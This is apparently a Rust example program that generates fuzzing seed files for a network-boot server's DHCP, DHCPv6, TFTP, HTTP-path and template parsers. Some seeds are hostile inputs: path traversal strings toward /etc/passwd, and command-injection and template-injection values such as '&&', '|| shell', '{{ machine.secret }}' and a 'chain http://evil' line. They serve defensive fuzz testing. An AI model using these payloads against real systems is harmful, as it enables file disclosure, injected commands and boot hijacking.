//! Writes the seed corpora under fuzz/seeds/: real DHCP packets of every client kind (built with
//! `chainboot_dhcp::client::ClientMessage`, framed as the dhcp_engine target reads them), TFTP
//! requests, and transfer scripts. The ISO and config seeds are made by .ci/fuzz (xorriso) and
//! committed text files.
//!
//!     cargo run --example gen_seeds   (from fuzz/)

use std::fs;
use std::net::Ipv4Addr;
use std::path::Path;

use chainboot_dhcp::client::{ClientKind, ClientMessage};
use chainboot_dhcp::wire::MessageType;
use chainboot_tftp::proto::{encode_request, OP_ACK, OP_ERROR, OP_RRQ, OP_WRQ};

fn frame(out: &mut Vec<u8>, ctl: u8, pkt: &[u8]) {
    out.push(ctl);
    out.extend_from_slice(&(pkt.len() as u16).to_be_bytes());
    out.extend_from_slice(pkt);
}

fn write(dir: &Path, name: &str, bytes: &[u8]) {
    fs::create_dir_all(dir).expect("mkdir");
    fs::write(dir.join(name), bytes).expect("write seed");
}

fn main() {
    let seeds = Path::new(env!("CARGO_MANIFEST_DIR")).join("seeds");

    // dhcp_engine: DORA per client kind, with the MAC selector in ctl bits 0-1.
    let dir = seeds.join("dhcp_engine");
    for (i, (name, kind)) in ClientKind::matrix()
        .into_iter()
        .chain([("plain", ClientKind::Plain)])
        .enumerate()
    {
        let sel = (i % 4) as u8;
        let mac = [0x52, 0x54, 0x00, 0x00, 0x01, sel];
        let mut out = Vec::new();
        let d = ClientMessage::new(kind.clone(), MessageType::Discover, mac);
        frame(&mut out, sel, &d.encode());
        let mut r = ClientMessage::new(kind.clone(), MessageType::Request, mac);
        r.requested_ip = Some(Ipv4Addr::new(198, 18, 0, 100));
        r.server_id = Some(Ipv4Addr::new(198, 18, 0, 1));
        frame(&mut out, 0x20 | sel, &r.encode());
        // The same client on the proxy port, then a release after a while.
        frame(
            &mut out,
            0x10 | sel,
            &ClientMessage::new(kind.clone(), MessageType::Request, mac).encode(),
        );
        let mut rel = ClientMessage::new(kind, MessageType::Release, mac);
        rel.ciaddr = Ipv4Addr::new(198, 18, 0, 100);
        frame(&mut out, 0x60 | sel, &rel.encode());
        write(&dir, &format!("dora-{name}"), &out);
    }
    // Two clients racing for one pool, a relayed client with a client id, a decline.
    let mut out = Vec::new();
    for n in 0..4u8 {
        let mut m = ClientMessage::new(
            ClientKind::Plain,
            MessageType::Discover,
            [0x52, 0x54, 0, 0, 1, n],
        );
        if n == 2 {
            m.client_id = Some(vec![0xff, 1, 2, 3]);
        }
        frame(&mut out, n, &m.encode());
    }
    let mut relayed = ClientMessage::new(
        ClientKind::Firmware { arch: 7 },
        MessageType::Discover,
        [0x52, 0x54, 0, 0, 1, 3],
    );
    relayed.giaddr = Ipv4Addr::new(198, 18, 7, 1);
    relayed.relay_info = Some(vec![1, 4, b'p', b'o', b'r', b't']);
    frame(&mut out, 0x08 | 3, &relayed.encode());
    let mut dec = ClientMessage::new(
        ClientKind::Plain,
        MessageType::Decline,
        [0x52, 0x54, 0, 0, 1, 1],
    );
    dec.requested_ip = Some(Ipv4Addr::new(198, 18, 0, 101));
    frame(&mut out, 0x21, &dec.encode());
    let mut host = ClientMessage::new(
        ClientKind::Firmware { arch: 0 },
        MessageType::Request,
        [0x52, 0x54, 0, 0, 0, 0x50],
    );
    host.requested_ip = Some(Ipv4Addr::new(198, 18, 0, 50));
    frame(&mut out, 0x20, &host.encode());
    write(&dir, "race-decline-relay", &out);

    // tftp_packet: requests as clients send them, and the other opcodes.
    let dir = seeds.join("tftp_packet");
    let reqs: [(&str, Vec<u8>); 7] = [
        (
            "rrq-plain",
            encode_request(OP_RRQ, "undionly.kpxe", "octet", &[]),
        ),
        (
            "rrq-opts",
            encode_request(
                OP_RRQ,
                "ipxe.efi",
                "octet",
                &[("tsize", "0"), ("blksize", "1468"), ("windowsize", "4")],
            ),
        ),
        (
            "rrq-dos",
            encode_request(
                OP_RRQ,
                "\\pxelinux.cfg\\01-52-54-00-00-00-01",
                "NETASCII",
                &[("timeout", "3")],
            ),
        ),
        ("wrq", encode_request(OP_WRQ, "upload", "octet", &[])),
        ("ack", [OP_ACK.to_be_bytes(), 7u16.to_be_bytes()].concat()),
        (
            "error",
            [
                &OP_ERROR.to_be_bytes()[..],
                &8u16.to_be_bytes(),
                b"option refused\0",
            ]
            .concat(),
        ),
        (
            "oack",
            [&[0u8, 6][..], b"blksize\x001468\x00tsize\x0012345\x00"].concat(),
        ),
    ];
    for (name, b) in &reqs {
        write(&dir, name, b);
    }
    // http_path: the TFTP names are paths too.
    let dir = seeds.join("http_path");
    for (name, p) in [
        ("plain", "iso/debian-12/install.amd/vmlinuz"),
        ("dos", "\\pxelinux.cfg\\default"),
        ("encoded", "files/a%20b/%2e%2e/c"),
        ("double", "files/%252e%252e/etc/passwd"),
        ("drive", "C:/boot.ini"),
    ] {
        write(&dir, name, p.as_bytes());
    }
    // tftp_transfer: [flags, blksize sel, window sel, len hi, len lo, ops...].
    let dir = seeds.join("tftp_transfer");
    write(
        &dir,
        "octet-window",
        &[0x02, 3, 2, 0x08, 0x00, 0, 3, 8, 0, 3, 12, 2, 0, 3, 20],
    );
    write(
        &dir,
        "netascii-small",
        &[0x01, 1, 1, 0x00, 0x40, 0, 3, 9, 0, 2, 0],
    );
    write(&dir, "silent", &[0x10, 0, 0, 0x01, 0x00, 0, 2, 2]);
    // templates: [mac sel, arch sel, fields separated by 0x01].
    let dir = seeds.join("templates");
    write(&dir, "benign", b"\x00\x02123e4567-e89b-12d3-a456-426614174000\x01node1.lab\x01SN123\x01QEMU\x01Standard PC\x01198.18.0.9");
    write(&dir, "hostile", b"\x01\x01${x}\x01a\nb&&c\x01{{ machine.secret }}\x01x || shell\x01\r\nchain http://evil\x011.2.3.4");

    // dhcp6_engine: [mode] + chunks; OVMF PXE and HTTP Boot, iPXE, relayed, with the DUID
    // patch point (Client Identifier first, 10 bytes) the target looks for.
    let dir = seeds.join("dhcp6_engine");
    for (name, vendor, arch, user) in [
        ("pxe-x64", Some("PXEClient:Arch:00007:UNDI:003000"), Some(7u16), None),
        ("http-x64", Some("HTTPClient:Arch:00016:UNDI:003000"), Some(16), None),
        ("ipxe", Some("PXEClient:Arch:00007:UNDI:003000"), Some(7), Some("iPXE")),
        ("plain", None, None, None),
    ] {
        let m6 = |t: u8, server: bool, addr: Option<[u8; 16]>, rapid: bool| {
            let mut w = chainboot_dhcp6::wire::Writer::new();
            w.opt(1, &[0, 3, 0, 1, 0x52, 0x54, 0, 0, 1, 0]);
            if server {
                w.opt(2, &[0, 4, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]);
            }
            w.opt(6, &[0, 59, 0, 60, 0, 23]);
            if let Some(v) = vendor {
                let mut d = 343u32.to_be_bytes().to_vec();
                d.extend_from_slice(&(v.len() as u16).to_be_bytes());
                d.extend_from_slice(v.as_bytes());
                w.opt(16, &d);
            }
            if let Some(a) = arch {
                w.opt(61, &a.to_be_bytes());
            }
            if let Some(u) = user {
                let mut d = (u.len() as u16).to_be_bytes().to_vec();
                d.extend_from_slice(u.as_bytes());
                w.opt(15, &d);
            }
            if rapid {
                w.opt(14, &[]);
            }
            let mut ia = vec![0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0];
            if let Some(a) = addr {
                let mut inner = chainboot_dhcp6::wire::Writer::new();
                let mut d = a.to_vec();
                d.extend_from_slice(&[0; 8]);
                inner.opt(5, &d);
                ia.extend_from_slice(&inner.buf);
            }
            w.opt(3, &ia);
            chainboot_dhcp6::wire::message(t, [1, 2, 3], &w.buf)
        };
        let addr = Some(std::net::Ipv6Addr::new(0x2001, 0xdb8, 1, 0, 0, 0, 0, 0x100).octets());
        let mut out = vec![0u8];
        frame(&mut out, 0, &m6(1, false, None, false));
        frame(&mut out, 0x20, &m6(3, true, addr, false));
        frame(&mut out, 0xa0, &m6(5, true, addr, false));
        frame(&mut out, 0x20, &m6(8, true, addr, false));
        frame(&mut out, 0x21, &m6(1, false, None, true));
        frame(&mut out, 0x22, &m6(11, false, None, false));
        let hop = chainboot_dhcp6::wire::RelayHop {
            hop_count: 0,
            link: std::net::Ipv6Addr::new(0x2001, 0xdb8, 1, 0, 0, 0, 0, 0xfe),
            peer: "fe80::1".parse().expect("peer"),
            interface_id: Some(b"eth1".to_vec()),
            client_link_layer: Some(vec![0, 1, 0x52, 0x54, 0, 0, 1, 3]),
        };
        frame(&mut out, 0x0b, &chainboot_dhcp6::wire::relay_forward(&[hop], m6(1, false, None, false)));
        write(&dir, &format!("server-{name}"), &out);
        out[0] = 1;
        write(&dir, &format!("boot-info-{name}"), &out);
    }
}
